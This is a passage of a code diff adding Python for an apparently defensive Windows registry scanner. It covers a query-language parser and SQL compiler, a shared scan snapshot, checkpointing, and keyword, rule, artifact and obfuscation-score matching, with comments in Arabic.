+    # الأدلة المستخرجة (path محجوز لمسار المفتاح، فمسارات الملفات باسم file)
+    "file": "art_path", "url": "art_url", "ip": "art_ip", "domain": "art_domain", "b64": "art_b64",
+    "cmd": "art_cmd", "cmdline": "art_cmd",
+    **{c: c for c in ARTIFACT_COLUMNS},
+}
+QUERY_TEXT_FIELDS = ["key", "value_name", "value_str", "matched_kw", "matched_rule", "owner"]
+QUERY_INT_FIELDS = {"run_id", "obf_score"}
+_Q_FIELD_PREFIX = re.compile(r"[-!]?[A-Za-z_]+:")
+_Q_RELATIVE = re.compile(r"^-(\d+)([dhm])$", re.IGNORECASE)
+_LIKE_MAX = "\U0010FFFF"
+
+class QueryError(ValueError):
+    pass
+
+def _query_tokens(text: str) -> List[str]:
+    """الأقواس رموز مستقلة؛ الحد = [-!]حقل: ثم قيمة مقتبسة "..." أو /regex/ أو نص حتى مسافة/قوس."""
+    tokens, pos, n = [], 0, len(text)
+    while pos < n:
+        ch = text[pos]
+        if ch.isspace():
+            pos += 1; continue
+        if ch in "()":
+            tokens.append(ch); pos += 1; continue
+        start = pos
+        m = _Q_FIELD_PREFIX.match(text, pos)
+        if m:
+            pos = m.end()
+        if pos < n and (text[pos] == '"' or (m and text[pos] == "/")):
+            quote = text[pos]
+            pos += 1
+            while pos < n and text[pos] != quote:
+                pos += 2 if text[pos] == "\\" else 1
+            if pos >= n:
+                raise QueryError(f"unterminated {quote} near: {text[start:start+12]!r}")
+            pos += 1
+        else:
+            while pos < n and not text[pos].isspace() and text[pos] not in "()":
+                pos += 1
+        tokens.append(text[start:pos])
+    return tokens
+
+def _query_date_bound(value: str, upper: bool) -> str:
+    m = _Q_RELATIVE.match(value)
+    if m:
+        n, unit = int(m.group(1)), m.group(2).lower()
+        delta = timedelta(days=n) if unit == "d" else timedelta(hours=n) if unit == "h" else timedelta(minutes=n)
+        return (datetime.utcnow() - delta).strftime("%Y-%m-%d %H:%M:%S")
+    # تاريخ بلا وقت كحد أعلى شامل يعني نهاية ذلك اليوم
+    return value + " 23:59:59" if upper and len(value) == 10 else value
+
+def _query_term(tok: str) -> Tuple[Any, ...]:
+    field_name, sep, raw = tok.partition(":")
+    col = QUERY_FIELDS.get(field_name.lower()) if sep else None
+    if col is None:
+        # كلمة حرة (أو "C:\\..." حيث ما قبل النقطتين ليس حقلاً معروفاً)
+        return ("text", tok[1:-1].replace('\\"', '"') if len(tok) >= 2 and tok[0] == tok[-1] == '"' else tok)
+    if not raw:
+        raise QueryError(f"missing value for {field_name}:")
+    if col == "matched":
+        return ("cmp", col, "eq", 1 if raw.lower() in ("1", "true", "yes", "y") else 0)
+    if len(raw) >= 2 and raw[0] == raw[-1] == '"':
+        return ("cmp", col, "eq", raw[1:-1].replace('\\"', '"'))
+    if len(raw) >= 2 and raw[0] == raw[-1] == "/":
+        pattern = raw[1:-1].replace("\\/", "/")
+        try:
+            re.compile(pattern)
+        except re.error as e:
+            raise QueryError(f"bad regex /{pattern}/: {e}")
+        return ("cmp", col, "regex", pattern)
+    for op, name in ((">=", "ge"), ("<=", "le"), (">", "gt"), ("<", "lt")):
+        if raw.startswith(op):
+            val = raw[len(op):]
+            if col == "last_mod":
+                val = _query_date_bound(val, upper=name in ("le", "gt"))
+            elif col in QUERY_INT_FIELDS:
+                try:
+                    val = int(val)
+                except ValueError:
+                    raise QueryError(f"{field_name} expects a number: {raw}")
+            return ("cmp", col, name, val)
+    if ".." in raw:
+        lo, _, hi = raw.partition("..")
+        parts: List[Tuple[Any, ...]] = []
+        if col in QUERY_INT_FIELDS:
+            try:
+                lo, hi = (int(lo) if lo else lo), (int(hi) if hi else hi)
+            except ValueError:
+                raise QueryError(f"{field_name} expects a number: {raw}")
+        if lo != "":
+            parts.append(("cmp", col, "ge", _query_date_bound(lo, False) if col == "last_mod" else lo))
+        if hi != "":
+            parts.append(("cmp", col, "le", _query_date_bound(hi, True) if col == "last_mod" else hi))
+        if not parts:
+            raise QueryError(f"empty range for {field_name}:")
+        return parts[0] if len(parts) == 1 else ("and", parts[0], parts[1])
+    if col in QUERY_INT_FIELDS:
+        try:
+            return ("cmp", col, "eq", int(raw))
+        except ValueError:
+            raise QueryError(f"{field_name} expects a number: {raw}")
+    if col == "value_type" and not raw.upper().startswith("REG_") and raw[:1] != "*":
+        raw = "REG_" + raw  # type:binary == type:REG_BINARY
+    if "*" in raw:
+        if raw.endswith("*") and "*" not in raw[:-1]:
+            return ("cmp", col, "prefix", raw[:-1])
+        return ("cmp", col, "like", raw)
+    return ("cmp", col, "eq", raw)
+
+def parse_query(text: str) -> Tuple[Any, ...]:
+    """يحوّل نص الاستعلام إلى شجرة: ("and"|"or", a, b) | ("not", a) | ("cmp", حقل، عملية، قيمة) | ("text", نص)."""
+    tokens = _query_tokens(text or "")
+    if not tokens:
+        raise QueryError("empty query")
+    pos = 0
+
+    def peek():
+        return tokens[pos] if pos < len(tokens) else None
+
+    def take():
+        nonlocal pos
+        pos += 1
+        return tokens[pos - 1]
+
+    def parse_or():
+        node = parse_and()
+        while peek() is not None and peek().upper() in ("OR", "||"):
+            take()
+            node = ("or", node, parse_and())
+        return node
+
+    def parse_and():
+        node = parse_not()
+        while peek() is not None and peek() != ")" and peek().upper() not in ("OR", "||"):
+            if peek().upper() in ("AND", "&&"):
+                take()
+            node = ("and", node, parse_not())
+        return node
+
+    def parse_not():
+        tok = peek()
+        if tok is None:
+            raise QueryError("unexpected end of query")
+        if tok.upper() in ("NOT", "!"):
+            take()
+            return ("not", parse_not())
+        if len(tok) > 1 and tok[0] in "-!" and tok != "(":
+            take()
+            return ("not", _query_term(tok[1:]))
+        if tok == "(":
+            take()
+            node = parse_or()
+            if take_if(")") is None:
+                raise QueryError("missing )")
+            return node
+        if tok == ")":
+            raise QueryError("unexpected )")
+        take()
+        return _query_term(tok)
+
+    def take_if(tok):
+        if peek() == tok:
+            return take()
+        return None
+
+    node = parse_or()
+    if pos != len(tokens):
+        raise QueryError(f"unexpected token: {tokens[pos]}")
+    return node
+
+def _like_pattern(raw: str) -> str:
+    return raw.replace("^", "^^").replace("%", "^%").replace("_", "^_").replace("*", "%")
+
+def compile_query_sql(node: Tuple[Any, ...], columns: Set[str]) -> Tuple[str, List[Any], Set[str]]:
+    """
+    يُعيد (شرط WHERE، الوسائط، الحقول القابلة للفهرسة). المساواة/البادئة/المدى تُكتب كمقارنات
+    COLLATE NOCASE (last_mod ثنائية) حتى يستطيع SQLite استخدام فهرس العمود بدلاً من المرور على الصفوف.
+    """
+    args: List[Any] = []
+    indexable: Set[str] = set()
+
+    def col_ok(col):
+        if col not in columns:
+            raise QueryError(f"field not available here: {col}")
+        return col
+
+    def emit(n) -> str:
+        kind = n[0]
+        if kind in ("and", "or"):
+            return f"({emit(n[1])} {kind.upper()} {emit(n[2])})"
+        if kind == "not":
+            return f"(NOT {emit(n[1])})"
+        if kind == "text":
+            fields = [f for f in QUERY_TEXT_FIELDS if f in columns]
+            args.extend([n[1]] * len(fields))
+            return "(" + " OR ".join(f"instr(lower({f}), lower(?)) > 0" for f in fields) + ")"
+        _, col, op, val = n
+        col = col_ok(col)
+        if col in ARTIFACT_COLUMNS:
+            # حقل متعدد القيم: الصف يطابق إن طابق أي دليل من نوعه
+            indexable.add("artifacts")
+            cond = compare("value", op, val, "artifacts")
+            return f"id IN (SELECT rid FROM artifacts WHERE kind = '{ARTIFACT_COLUMNS[col]}' AND {cond})"
+        if col in RESULT_INT_FIELDS:
+            # IS NOT NULL يجعل NOT على قيمة غير مُقيَّمة صحيحاً كما في compile_query_py
+            return f"({compare(col, op, val, col)} AND {col} IS NOT NULL)"
+        return compare(col, op, val, col)
+
+    def compare(col, op, val, index_as) -> str:
+        coll = "" if col in ("last_mod", "matched") or col in QUERY_INT_FIELDS else " COLLATE NOCASE"
+        if op == "eq":
+            indexable.add(index_as); args.append(val)
+            return f"{col} = ?{coll}"
+        if op == "prefix":
+            indexable.add(index_as); args.extend([val, val + _LIKE_MAX])
+            return f"({col} >= ?{coll} AND {col} < ?{coll})"
+        if op == "like":
+            args.append(_like_pattern(val))
+            return f"{col} LIKE ? ESCAPE '^'"
+        if op == "regex":
+            args.append("(?i)" + val)
+            return f"{col} REGEXP ?"
+        sym = {"ge": ">=", "gt": ">", "le": "<=", "lt": "<"}[op]
+        indexable.add(index_as); args.append(val)
+        cond = f"{col} {sym} ?{coll}"
+        return f"({cond} AND {col} GLOB '[0-9]*')" if col == "last_mod" else cond
+
+    return emit(node), args, indexable
+
+def compile_query_py(node: Tuple[Any, ...]):
+    """نفس الدلالة لقوائم النتائج في الذاكرة (وضع "المطابق فقط")."""
+    kind = node[0]
+    if kind == "and":
+        a, b = compile_query_py(node[1]), compile_query_py(node[2])
+        return lambda r: a(r) and b(r)
+    if kind == "or":
+        a, b = compile_query_py(node[1]), compile_query_py(node[2])
+        return lambda r: a(r) or b(r)
+    if kind == "not":
+        a = compile_query_py(node[1])
+        return lambda r: not a(r)
+    if kind == "text":
+        needle = node[1].lower()
+        return lambda r: any(needle in result_cell_text(r, f).lower() for f in QUERY_TEXT_FIELDS)
+    _, col, op, val = node
+    if col in ARTIFACT_COLUMNS:
+        kind = ARTIFACT_COLUMNS[col]
+        test = compile_query_py(("cmp", "value", op, val))
+        return lambda r: any(test({"value": a}) for a in (r.get("artifacts") or {}).get(kind, ()))
+    if col == "matched":
+        return lambda r: (1 if r.get("matched_any") else 0) == val
+    if col in QUERY_INT_FIELDS and isinstance(val, int):
+        ops = {"eq": lambda a: a == val, "ge": lambda a: a >= val, "gt": lambda a: a > val,
+               "le": lambda a: a <= val, "lt": lambda a: a < val}
+        if col == "obf_score":
+            # القيم غير المُقيَّمة لا تطابق أي مقارنة (كـ NULL في SQLite)
+            return lambda r: r.get("obf_score") is not None and ops[op](int(r["obf_score"]))
+        return lambda r: ops[op](int(r.get("run_id", 0) or 0))
+    get = lambda r: result_cell_text(r, col)
+    if op == "eq":
+        v = str(val).lower()
+        return lambda r: get(r).lower() == v
+    if op == "prefix":
+        v = str(val).lower()
+        return lambda r: get(r).lower().startswith(v)
+    if op in ("like", "regex"):
+        rx = re.compile(val if op == "regex" else "^" + ".*".join(re.escape(p) for p in val.split("*")) + "$", re.IGNORECASE | re.DOTALL)
+        return lambda r: rx.search(get(r)) is not None
+    v = str(val) if col == "last_mod" else str(val).lower()
+    cmp = {"ge": lambda a: a >= v, "gt": lambda a: a > v, "le": lambda a: a <= v, "lt": lambda a: a < v}[op]
+    if col == "last_mod":
+        return lambda r: get(r)[:1].isdigit() and cmp(get(r))
+    return lambda r: cmp(get(r).lower())
+
+# ================ الفحص المشترك ولقطة العبور ================
+SNAPSHOT_TTL_DEFAULT = 120              # ثوانٍ؛ 0 = تعطيل اللقطة
+SNAPSHOT_MAX_BYTES = 128 * 1024 * 1024  # حجم تقريبي للبيانات المحتفظ بها؛ بعده تتوقف الإضافة
+
+def _snapshot_size(values: Optional[List[Tuple[str, Any, int]]], children: List[str]) -> int:
+    size = 64 + sum(len(c) + 16 for c in children)
+    for vname, vdata, _ in values or ():
+        if isinstance(vdata, (bytes, bytearray, str)):
+            size += len(vdata)
+        elif isinstance(vdata, list):
+            size += sum(len(str(x)) for x in vdata)
+        size += len(vname or "") + 48
+    return size
+
+class RegistrySnapshot:
+    """
+    ما قرأه عبور سابق لكل مفتاح: [وقت الكتابة (FILETIME)، المالك أو None، القيم أو None، الأبناء أو None].
+    القيم None = لم تُقرأ (مفتاح خارج نافذة العمر)، والأبناء None = لم يُنزل إليه (استُبعد بالمالك)؛
+    المفتاح الذي ينقصه ما يحتاجه الفحص الحالي يُقرأ من السجل مباشرة.
+    عمّال خلايا المستخدمين يقرؤون ويكتبون اللقطة نفسها، فالإضافة والقراءة تحت القفل.
+    """
+    def __init__(self, tab: str, ttl: float):
+        self.tab = tab
+        self.ttl = ttl
+        self.created = time.monotonic()
+        self.size = 0
+        self._keys: Dict[Tuple[int, str], List[Any]] = {}
+        self._lock = threading.Lock()
+
+    def expired(self) -> bool:
+        return time.monotonic() - self.created > self.ttl
+
+    def get(self, hive: int, subkey: str) -> Optional[List[Any]]:
+        with self._lock:
+            return self._keys.get((hive, subkey.lower()))
+
+    def put(self, hive: int, subkey: str, last_write_ft: Optional[int], owner: Optional[str],
+            values: Optional[List[Tuple[str, Any, int]]], children: List[str]):
+        size = _snapshot_size(values, children)
+        with self._lock:
+            if self.size >= SNAPSHOT_MAX_BYTES:
+                return
+            self.size += size
+            self._keys[(hive, subkey.lower())] = [last_write_ft, owner, values, list(children)]
+
+_SHARED_SNAPSHOT: Optional[RegistrySnapshot] = None
+
+def acquire_snapshot(tab: str, ttl: int) -> Optional[RegistrySnapshot]:
+    """
+    لقطة تبويب آخر ما زالت صالحة تُعاد للقراءة منها (ويُضاف إليها ما يُقرأ مباشرة)؛
+    وإلا تبدأ لقطة جديدة باسم هذا التبويب. إعادة فحص التبويب نفسه تقرأ السجل دائماً من جديد.
+    """
+    global _SHARED_SNAPSHOT
+    if ttl <= 0:
+        _SHARED_SNAPSHOT = None
+        return None
+    snap = _SHARED_SNAPSHOT
+    if snap is not None and snap.tab != tab and not snap.expired():
+        return snap
+    _SHARED_SNAPSHOT = RegistrySnapshot(tab, ttl)
+    return _SHARED_SNAPSHOT
+
+def combined_criteria(crit_kw: Criteria, crit_rules: Criteria) -> Criteria:
+    """معايير عبور واحد يغطي جذور التبويبين ويقيّم الكلمات والقواعد معاً."""
+    # ASEP مشترك فقط إن فعّله التبويبان (يمنع _start_scan_both الخلط بين الوضعين)
+    keys = list(dict.fromkeys([k for k in crit_kw.keys + crit_rules.keys if str(k).strip()]))
+    display = "all" if "all" in (crit_kw.display_mode, crit_rules.display_mode) else "matched"
+    return replace(crit_kw, keys=keys, mode_keywords=True, mode_rules=True, display_mode=display,
+                   asep=crit_kw.asep and crit_rules.asep)
+
+def combined_routes(crit_kw: Criteria, crit_rules: Criteria) -> Dict[str, Dict[str, Any]]:
+    return {"kw": {"keys": list(crit_kw.keys), "display_mode": crit_kw.display_mode, "asep": crit_kw.asep},
+            "rules": {"keys": list(crit_rules.keys), "display_mode": crit_rules.display_mode, "asep": crit_rules.asep}}
+
+def _route_row(row: Dict[str, Any], tab: str) -> Dict[str, Any]:
+    reason_kw = tr("reason_kw")
+    if tab == "kw":
+        return dict(row, matched_rule="", rule_level="", matched_any=bool(row.get("matched_kw")),
+                    reasons=[r for r in row.get("reasons", []) if r == reason_kw])
+    return dict(row, matched_kw="", matched_any=bool(row.get("matched_rule")),
+                reasons=[r for r in row.get("reasons", []) if r != reason_kw])
+
+def route_combined_results(rows, routes: Dict[str, Dict[str, Any]]) -> Dict[str, Any]:
+    """
+    يوزّع صفوف الفحص المشترك على التبويبين: الصف يذهب لتبويب إن وقع تحت أحد جذوره
+    (بعد فك الأسماء البديلة كما في build_scan_plan)، مع إبقاء سبب ذلك التبويب فقط،
+    ووفق وضع العرض الخاص به.
+    """
+    user_sid = current_user_sid()
+    tries: Dict[str, PathPrefixTrie] = {}
+    out: Dict[str, Any] = {}
+    for tab, route in routes.items():
+        trie = PathPrefixTrie()
+        for raw in route.get("keys", []):
+            hive, sub = parse_registry_path(str(raw))
+            if hive is not None:
+                for fh, fs in canonical_forms(hive, sub.strip("\\"), user_sid):
+                    trie.insert(fh, fs, True)
+        tries[tab] = trie
+        out[tab] = ResultStore() if route.get("display_mode") == "all" else []
+    last_loc, last_tabs = None, ()
+    for row in rows:
+        loc = (row.get("hive_const"), row.get("subkey", ""))
+        if loc != last_loc:
+            # صفوف المفتاح الواحد متتالية: حساب التغطية مرة لكل مفتاح
+            forms = canonical_forms(loc[0], loc[1], user_sid)
+            last_tabs = [t for t, trie in tries.items()
+                         if routes[t].get("asep") or any(trie.covering(h, s) for h, s in forms)]
+            last_loc = loc
+        for tab in last_tabs:
+            routed = _route_row(row, tab)
+            if routed["matched_any"] or routes[tab].get("display_mode") == "all":
+                out[tab].append(routed)
+    for tab, res in out.items():
+        if isinstance(res, ResultStore):
+            res.flush()
+    if isinstance(rows, ResultStore):
+        rows.close()
+    return out
+
+# ================ خيط الفحص ================
+class RegistryScannerThread(QThread):
+    progress = pyqtSignal(int)
+    finished = pyqtSignal(object, int)  # قائمة، أو ResultStore عند display_mode="all"، أو dict للفحص المشترك
+    error = pyqtSignal(str)
+
+    def __init__(self, crit: Criteria, rules: Optional[List[RuleSpec]] = None,
+                 meta: Optional[Dict[str, Any]] = None,
+                 resume: Optional[Tuple[Dict[str, Any], int]] = None,
+                 plan: Optional[ScanPlan] = None, history: bool = False, snapshot_ttl: int = 0):
+        super().__init__()
+        self.crit = crit
+        self.plan = plan
+        self._stop = False
+        self._paused = False
+        self.rules = rules or []
+        self._current_user_cached = current_user_account()
+
+        # نقاط الحفظ: meta تُحفظ كما هي (مثل التبويب)، وresume = (الحالة، عدد النتائج المحفوظة)
+        # النتائج نفسها تُبث من ملف JSONL داخل run() لا في خيط الواجهة
+        self.meta: Dict[str, Any] = dict(meta or {})
+        self._resume_state: Optional[Dict[str, Any]] = resume[0] if resume else None
+        self._resume_count = int(resume[1]) if resume else 0
+        self._cp_pos: Dict[str, Any] = {"root_index": 0, "hive": None, "frontier": None}
+        self._cp_flushed = self._resume_count
+        self._cp_last = time.monotonic()
+        self._out_ref: List[Dict[str, Any]] = []
+        self._counter_ref: List[int] = [0]
+        # سجل الفحوص: الزمن المنقضي يُجمع عبر جلسات الاستئناف
+        self.history = history
+        self._started_at = (self._resume_state or {}).get("started_at") or datetime.now().strftime("%Y-%m-%d %H:%M:%S")
+        self._elapsed_prev = float((self._resume_state or {}).get("elapsed", 0.0))
+        self._t0 = time.monotonic()
+
+        # مقابض الآباء المعلّقة: (خلية، مسار) -> [مقبض أو None، عدد الأبناء المتبقين، علم الوصول]
+        self._access = ACCESS_MEMO
+        self._parents: Dict[Tuple[int, str], List[Any]] = {}
+        self.stats: Dict[str, int] = {"open_calls": 0, "open_failed": 0, "open_skipped": 0, "age_pruned": 0, "budget_hit": 0,
+                                      "snapshot_hits": 0}
+        # لقطة العبور المشتركة بين التبويبين (تُحجز عند بدء التشغيل)
+        self.snapshot_ttl = int(snapshot_ttl or 0)
+        self._snapshot: Optional[RegistrySnapshot] = None
+
+        # حدود المطابقات: العدّادات تُستعاد من نقطة الحفظ عند الاستئناف
+        rs = self._resume_state or {}
+        self._matches = int(rs.get("matches", 0))
+        self._root_matches = int(rs.get("root_matches", 0))
+        self._budget_hit = False
+        self._top: Optional[TopNCollector] = TopNCollector(crit.top_n) if int(crit.top_n or 0) > 0 else None
+        if self._top is not None:
+            for row in rs.get("top") or []:
+                self._top.push(row)
+
+        # حد العمر يُحسب مرة واحدة كـ FILETIME ويُقارن مباشرة بقيمة QueryInfoKey دون تحويل لكل مفتاح
+        self._age_cutoff_ft: Optional[int] = None
+        if crit.use_age and int(crit.days or 0) > 0:
+            self._age_cutoff_ft = datetime_to_filetime(datetime.utcnow() - timedelta(days=int(crit.days)))
+
+        self._governor: Optional[ScanGovernor] = None
+        if crit.low_impact:
+            self._governor = ScanGovernor(target_rate=crit.target_rate, cpu_share=crit.cpu_share)
+
+        # بناء فهارس/مصححات مسبقة لتسريع الفحص
+        self._kw_tokens = [k.strip() for k in split_tokens(crit.keywords)] if crit.mode_keywords else []
+        # فهارس القواعد: مجموعة كلمات بسيطة وRegexes مجمّعة
+        self._rule_kw_set: Set[str] = set()
+        self._rule_regex_list: List[re.Pattern] = []
+        self._rule_regex_preds: List[Dict[str, Any]] = []
+        self._rule_art_preds: List[Dict[str, Any]] = []
+        for spec in self.rules:
+            for p in spec.predicates:
+                if p["type"] == "kw":
+                    val = p.get("value","").strip()
+                    if val:
+                        self._rule_kw_set.add(val)
+                elif p["type"] == "re" and p.get("compiled"):
+                    self._rule_regex_list.append(p["compiled"])
+                    self._rule_regex_preds.append(p)
+                elif p["type"] == "art":
+                    self._rule_art_preds.append(p)
+        self._rule_kw_list = list(self._rule_kw_set)
+        # تواقيع البايتات لكل القواعد في آلة واحدة؛ المالك = فهرس القاعدة للحفاظ على ترتيب الأولوية
+        self._sig_matcher = SignatureMatcher([
+            (i, p["sig"]) for i, spec in enumerate(self.rules) for p in spec.predicates if p["type"] == "hex"
+        ])
+        # مطابِقات البايتات لقيم REG_BINARY (ASCII + UTF-16LE في تمريرة واحدة)
+        self._kw_bytes = BytesTokenMatcher(self._kw_tokens)
+        self._rule_kw_bytes = BytesTokenMatcher(self._rule_kw_list)
+        # نتائج المطابقة تخص كلمات/قواعد هذا الفحص فقط، فالذاكرة لكل خيط
+        self._memo = MatchMemo()
+        # الأدلة لا تعتمد على الكلمات/القواعد، فالمفتاح محتوى القيمة فقط
+        self._art_memo = MatchMemo(ARTIFACT_MEMO_SIZE)
+        # مرحلة درجة التمويه: القيم المرشحة من عدة مفاتيح تُقيَّم دفعةً واحدة قبل مطابقتها.
+        # حدود المطابقات تحتاج نتائج كل مفتاح فور قراءته، فمعها تبقى الدفعة بحجم مفتاح واحد
+        self._obf = bool(crit.obfuscation) and HAVE_NUMPY
+        self._obf_defer = self._obf and not (crit.max_matches or crit.stop_on_first or crit.top_n)
+        self._obf_pending: List[Tuple[Any, ...]] = []
+        self._obf_pending_values = 0
+
+        # خلايا المستخدمين: عمّال فرعيون لكل خلية، والوحدات المكتملة تُحفظ في نقطة الحفظ،
+        # وحدود الوحدات الموقوفة في منتصفها في unit_frontiers (نتائجها حتى تلك الحدود مدموجة في out)
+        self._worker = False
+        self._workers: List["RegistryScannerThread"] = []
+        self._units_done: Set[int] = {int(i) for i in rs.get("units_done") or []}
+        self._unit_frontiers: Dict[int, List[str]] = {int(i): list(f) for i, f in (rs.get("unit_frontiers") or {}).items()}
+        # العامل المتوقف مؤقتاً يرفع _parked تحت القفل المشترك مع الأب، فيسحب الأب نتائجه وحدوده بأمان
+        self._lock = threading.Lock()
+        self._parked = False
+        self._offline: Optional[OfflineUserHives] = None
+        # خط الأساس يُفتح عند بدء التشغيل (خطأ الملف يصل كرسالة فحص)
+        self._baseline: Optional[Baseline] = None
+        self._ioc: Optional[IocMatcher] = None
+
+    def stop(self):
+        self._stop = True
+        for w in list(self._workers):
+            w.stop()
+
+    def pause(self):
+        self._paused = True
+        for w in list(self._workers):
+            w.pause()
+
+    def resume(self):
+        self._paused = False
+        for w in list(self._workers):
+            w.resume()
+
+    def is_paused(self) -> bool: return self._paused
+
+    def _wait_if_paused(self):
+        if not self._paused:
+            return
+        # المفاتيح المؤجلة خرجت من الحدود: تُطابق قبل الحفظ كي لا تضيع إن أُغلق التطبيق أثناء التوقف
+        self._obf_flush(self._out_ref, self._counter_ref)
+        if self._worker:
+            # نقطة الحفظ يكتبها الأب بعد سحب نتائج العامل وحدوده (_drain_parked)
+            with self._lock:
+                self._parked = True
+        else:
+            # حفظ فوري عند الإيقاف المؤقت كي يمكن الاستئناف حتى لو أُغلق التطبيق أثناءه
+            self._write_checkpoint()
+        while self._paused and not self._stop:
+            self.msleep(100)
+        if self._worker:
+            with self._lock:
+                self._parked = False
+        if self._governor:
+            self._governor.reset()
+
+    def _write_checkpoint(self):
+        if self._worker or self.crit.reg_files:
+            # العامل الفرعي لا يملك الفحص: نقطة الحفظ يكتبها الخيط الأب على مستوى الوحدات.
+            # فحص الملفات النصية يُعاد من بدايته (لا موضع قابل للاستئناف داخل ملف UTF-16 مبثوث)
+            return
+        out = self._out_ref
+        state = {
+            "version": 1,
+            "saved_at": datetime.now().strftime("%Y-%m-%d %H:%M:%S"),
+            "meta": self.meta,
+            "criteria": asdict(self.crit),
+            "rules": [{"path": r.path, "title": r.title, "level": r.level, "enabled": True} for r in self.rules],
+            "plan": self.plan.to_state() if self.plan else None,
+            "root_index": self._cp_pos.get("root_index", 0),
+            "hive": self._cp_pos.get("hive"),
+            "frontier": list(self._cp_pos.get("frontier") or []) if self._cp_pos.get("frontier") is not None else None,
+            "units_done": sorted(self._units_done),
+            "unit_frontiers": {str(i): list(f) for i, f in self._unit_frontiers.items()},
+            "counter": self._counter_ref[0],
+            "results_flushed": len(out),
+            "matches": self._matches,
+            "root_matches": self._root_matches,
+            "top": self._top.rows() if self._top is not None else None,
+            "started_at": self._started_at,
+            "elapsed": self._elapsed_prev + (time.monotonic() - self._t0),
+        }
+        try:
+            save_scan_checkpoint(state, out[self._cp_flushed:])
+            self._cp_flushed = len(out)
+        except Exception:
+            pass
+        self._cp_last = time.monotonic()
+
+    def _record_history(self, results, total: int):
+        # الفحوص الموقوفة لا تُسجّل: ستُسجّل كاملة عند استئنافها
+        try:
+            hist = ScanHistory()
+            try:
+                hist.record_run(self._started_at, self._elapsed_prev + (time.monotonic() - self._t0),
+                                self.meta.get("tab", ""), self.crit, self.rules, total, results)
+            finally:
+                hist.close()
+        except Exception:
+            traceback.print_exc()
+
+    def _maybe_checkpoint(self):
+        if time.monotonic() - self._cp_last >= CHECKPOINT_INTERVAL_SEC:
+            self._write_checkpoint()
+
+    def _want_type(self, typ: int) -> bool:
+        t = self.crit.value_type.lower()
+        if t == "all": return True
+        if t == "string" and typ == winreg.REG_SZ: return True
+        if t == "expandstring" and typ == winreg.REG_EXPAND_SZ: return True
+        if t == "multistring" and typ == winreg.REG_MULTI_SZ: return True
+        if t == "dword" and typ == winreg.REG_DWORD: return True
+        if t == "qword" and typ == getattr(winreg, "REG_QWORD", 11): return True
+        if t == "binary" and typ == winreg.REG_BINARY: return True
+        return False
+
+    def _match_value_keywords(self, name: str, value_str: str, kw_tokens: List[str]) -> Optional[str]:
+        hit = exact_token_present(name or "", kw_tokens)
+        if hit: return hit
+        hit = exact_token_present(value_str or "", kw_tokens)
+        return hit
+
+    def _owner_pass(self, owner: str) -> bool:
+        """
+        فلترة المالك شرط أساسي لتمرير السجل فقط. لا تُعيد سبباً.
+        """
+        mode = (self.crit.owner_filter or "all").lower()
+        if mode == "all":
+            return True
+        o = owner or ""
+        if not o or o == "N/A":
+            return False
+        if mode == "systems":
+            return o in SYSTEM_ACCOUNTS
+        if mode == "localsystem":
+            return o == "NT AUTHORITY\\SYSTEM"
+        if mode == "users":
+            cu = self._current_user_cached or ""
+            return bool(cu and (o.lower() == cu.lower() or cu.split("\\")[-1].lower() in o.lower()))
+        return True
+
+    def _age_is_recent(self, last_write_ft: Optional[int]) -> bool:
+        if self._age_cutoff_ft is None: return True
+        if not last_write_ft: return False
+        return last_write_ft >= self._age_cutoff_ft
+
+    def _full_key_path(self, hive_const: int, subkey: str) -> str:
+        return format_key_path(hive_const, subkey)
+
+    def _fast_rule_match(self, name: str, vtext: str, data: Optional[bytes] = None,
+                         artifacts: Optional[Dict[str, Tuple[str, ...]]] = None,
+                         wide: Optional[Utf16Views] = None) -> Optional[str]:
+        """
+        تحسين: اختبار سريع عبر مجموعات مسبقة:
+        - إذا وُجدت أي كلمة من rule_kw_set كمطابقة دقيقة في name/value -> يعتبر مطابقاً ويُترك تحديد العنوان لاحقاً.
+        - Regex: تجربة على name/value.
+        - data (REG_BINARY): تُطابق القيمة على البايتات الخام بدلاً من vtext، وwide فكّها UTF-16LE المشترك.
+        - artifacts: أدلة القيمة المستخرجة مسبقاً لشروط artifact_<نوع>.
+        نُعيد مجرد True/اسم قاعدة لاحقاً عند المرور على specs لتحديد العنوان الأول المطابق.
+        """
+        # كلمات بسيطة
+        if self._rule_kw_set:
+            if exact_token_present(name, self._rule_kw_list):
+                return "__kw__"
+            if data is not None:
+                if self._rule_kw_bytes.search(data):
+                    return "__kw__"
+            elif exact_token_present(vtext, self._rule_kw_list):
+                return "__kw__"
+        # Regex
+        for comp, pred in zip(self._rule_regex_list, self._rule_regex_preds):
+            try:
+                if comp.search(name):
+                    return "__re__"
+                if data is not None:
+                    if regex_search_bytes(pred, data, wide):
+                        return "__re__"
+                elif comp.search(vtext):
+                    return "__re__"
+            except Exception:
+                continue
+        if artifacts:
+            for pred in self._rule_art_preds:
+                if artifact_predicate_hit(pred, artifacts):
+                    return "__art__"
+        return None
+
+    def _artifacts(self, vtext: str) -> Dict[str, Tuple[str, ...]]:
+        key = MatchMemo.key(0, "", vtext)
+        hit = self._art_memo.get(key)
+        if hit is None:
+            hit = extract_artifacts(vtext)
+            self._art_memo.put(key, hit)
+        return hit
+
+    def _obf_candidates(self, values: List[Tuple[str, Any, int]]) -> Tuple[List[str], List[bytes], List[bool]]:
+        names, blobs, binary = [], [], []
+        for vname, vdata, vtype in values:
+            if not self._want_type(vtype):
+                continue
+            blob = obfuscation_blob(vdata, vtype)
+            if blob is not None:
+                names.append(vname)
+                blobs.append(blob)
+                binary.append(vtype not in ARTIFACT_TEXT_TYPES)
+        return names, blobs, binary
+
+    def _obf_stage(self, values: List[Tuple[str, Any, int]]) -> Dict[str, int]:
+        """درجات التمويه لقيم مفتاح واحد في دفعة NumPy واحدة؛ القيم القصيرة والرقمية بلا درجة."""
+        names, blobs, binary = self._obf_candidates(values)
+        if not blobs:
+            return {}
+        self.stats["obf_scored"] = self.stats.get("obf_scored", 0) + len(blobs)
+        return dict(zip(names, obfuscation_scores(blobs, binary)))
+
+    def _obf_queue(self, hive_const: int, subkey: str, values: List[Tuple[str, Any, int]], kw_tokens: List[str],
+                   owner: str, state: str, last_mod: str) -> bool:
+        """
+        يؤجل تقييم قيم مفتاح مقروء بالكامل إلى دفعة التمويه المشتركة. ما دامت الدفعة غير فارغة تُؤجَّل
+        المفاتيح التالية أيضاً (حتى بلا قيم مرشحة) فيبقى ترتيب النتائج كترتيب العبور.
+        """
+        if not self._obf_defer:
+            return False
+        cands = self._obf_candidates(values)
+        if not cands[1] and not self._obf_pending:
+            return False
+        self._obf_pending.append((hive_const, subkey, values, kw_tokens, owner, state, last_mod, cands))
+        self._obf_pending_values += len(cands[1])
+        return True
+
